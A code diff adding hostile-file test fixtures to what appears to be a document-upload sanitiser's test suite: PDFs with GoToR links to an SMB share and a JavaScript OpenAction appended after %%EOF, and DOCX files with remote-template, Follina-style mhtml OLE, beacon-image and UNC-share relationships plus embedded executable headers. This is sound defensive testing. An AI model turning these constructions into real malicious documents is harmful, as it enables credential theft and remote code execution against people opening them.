@@ -96,6 +96,12 @@ HOSTILE_PDFS = {
     "acroform_xfa": (lambda: _pdf(_xfa), PDF_XFA),
     "unparseable": (lambda: b"%PDF-1.7\n" + b"\x00garbage" * 200, PDF_BROKEN),
     "encrypted": (_encrypted, PDF_LOCKED),
+    # found in the attacker walk: a link that opens a file on a remote share (credential leak)
+    "link_gotor_unc_share": (lambda: _pdf(lambda p: _annotation(p, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(
+        S=pikepdf.Name("/GoToR"), F=pikepdf.String("\\\\10.6.6.6\\share\\x.pdf"),
+        D=pikepdf.Array([0, pikepdf.Name.Fit])))), "GoToR"),
+    "javascript_appended_after_eof": (lambda: pdf_appended_catalog(), "OpenAction"),
+    "gotor_in_catalog_aa": (lambda: _pdf(_set(["Names"], lambda p: pikepdf.Dictionary(Dests=pdf_dests_gotor(p)))), "GoToR"),
 }
 
 
@@ -238,6 +244,34 @@ def docx_200k_entries() -> bytes:
     return _zip(entries)
 
 
+def pdf_appended_catalog() -> bytes:
+    """A clean PDF, then a second catalog (same object number) with an OpenAction appended after
+    %%EOF without a new xref: qpdf reads the first, a viewer rebuilding the xref the second."""
+    clean = _pdf(lambda pdf: None)
+    with pikepdf.open(BytesIO(clean)) as pdf:
+        root, pages = pdf.Root.objgen, pdf.Root.Pages.objgen
+    return clean + (b"\n%d %d obj<</Type/Catalog/Pages %d %d R/OpenAction<</S/JavaScript/JS(app.alert(2))>>>>endobj"
+                    b"\n%%%%EOF\n" % (root + pages))
+
+
+def pdf_dests_gotor(pdf):
+    return pdf.make_indirect(pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pikepdf.Dictionary(
+        S=pikepdf.Name("/GoToR"), F=pikepdf.String("smb://10.6.6.6/x.pdf"))])))
+
+
+RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        'Target="{target}" TargetMode="External"/></Relationships>')
+
+
+def docx_external(part: str, kind: str, target: str) -> bytes:
+    return docx([_deflated(part, RELS.format(kind=kind, target=target).encode())])
+
+
+def docx_with_part(name: str, data: bytes) -> bytes:
+    return docx([_stored(name, data)])
+
+
 def docx_macro() -> bytes:
     return docx([_stored("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")])
 
@@ -249,6 +283,7 @@ IMAGE_BIG = "Resolusi gambar terlalu besar"
 ZIP_BOMB = "zip bomb"
 ZIP_MANY = "terlalu banyak bagian"
 MACRO = "makro"
+EXTERNAL = "hubungan eksternal"
 
 
 def hostile_table() -> dict[str, tuple]:
@@ -270,6 +305,24 @@ def hostile_table() -> dict[str, tuple]:
         "doc_with_macros": (lambda: doc_with_macros(), "makro.doc", MACRO),
         "xls_with_vba_project": (lambda: xls_with_vba(), "makro.xls", MACRO),
         "doc_named_xls": (lambda: doc_clean(), "surat.xls", EXTENSION),
+        # found in the attacker walk: parts Office fetches from elsewhere on opening, parts that
+        # are other archives or programs under an innocent name
+        "docx_remote_template": (lambda: docx_external("word/_rels/settings.xml.rels", "attachedTemplate",
+                                                       "http://10.6.6.6/t.dotm"), "templat.docx", EXTERNAL),
+        "docx_linked_ole_mhtml": (lambda: docx_external("word/_rels/document.xml.rels", "oleObject",
+                                                        "mhtml:http://10.6.6.6/x.html!x-usc:http://10.6.6.6/x.html"),
+                                  "follina.docx", EXTERNAL),
+        "docx_external_image_beacon": (lambda: docx_external("word/_rels/document.xml.rels", "image",
+                                                             "https://10.6.6.6/pixel.png"), "suar.docx", EXTERNAL),
+        "docx_hyperlink_to_unc_share": (lambda: docx_external("word/_rels/document.xml.rels", "hyperlink",
+                                                              "file://10.6.6.6/share/x.exe"), "tautan.docx", EXTERNAL),
+        "docx_rels_with_dtd": (lambda: docx([_deflated("_rels/.rels", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]>'
+                                                        b'<Relationships xmlns="x"/>')]), "dtd.docx", EXTERNAL),
+        "docx_nested_zip_as_image": (lambda: docx_with_part("word/media/image1.png", docx()), "bersarang.docx", MACRO),
+        "docx_exe_part": (lambda: docx_with_part("word/media/readme.bin", b"MZ\x90\x00\x03" + b"\x00" * 64),
+                          "program.docx", MACRO),
+        "docx_elf_part": (lambda: docx_with_part("customXml/item9.xml", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
+                          "elf.docx", MACRO),
     })
     return table
 
